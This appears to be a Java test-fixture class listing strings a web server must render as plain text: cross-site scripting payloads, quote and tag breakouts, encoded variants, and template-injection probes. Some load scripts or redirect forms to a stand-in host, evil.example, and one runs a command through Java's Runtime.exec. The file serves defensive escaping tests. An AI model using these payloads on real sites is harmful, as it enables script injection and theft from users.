package dev.saoma.server;

import java.util.List;
import java.util.stream.Stream;

/** Texts that a page must show as they are: markup, scripts, template languages, and characters that change their neighbours. */
final class MarkupTricks {
    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img/src='x'/onerror='alert(1)'>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
            "<iframe src='javascript:alert(1)'></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data='javascript:alert(1)'></object>",
            "<embed src='data:text/html,<script>alert(1)</script>'>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<a href='javascript:alert(1)'>x</a>",
            "<form action='https://evil.example/'><button>x</button></form>",
            "<button formaction='https://evil.example/'>x</button>",
            "<base href='https://evil.example/'>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<link rel=stylesheet href='https://evil.example/x.css'>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>");

    private static final List<String> QUOTES = List.of(
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "\" onmouseover=alert(1) x=\"",
            "' onfocus=alert(1) autofocus x='",
            "\"><img src=x onerror=alert(1)>",
            "` onerror=alert(1) `",
            "\"/><svg/onload=alert(1)>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "\\\"><script>alert(1)</script>",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "-->\"><script>alert(1)</script>");

    private static final List<String> TEMPLATES = List.of(
            "{{base}}",
            "{{#text.title}}",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{%raw%}{{7*7}}{%endraw%}",
            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            "$1\\1\\\\$0",
            "\u202e<script>alert(1)</script>",
            "\ufeff<script>alert(1)</script>",
            "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");

    private MarkupTricks() {}

    static List<String> all() {
        return Stream.of(SCRIPTS, QUOTES, TEMPLATES).flatMap(List::stream).toList();
    }
}
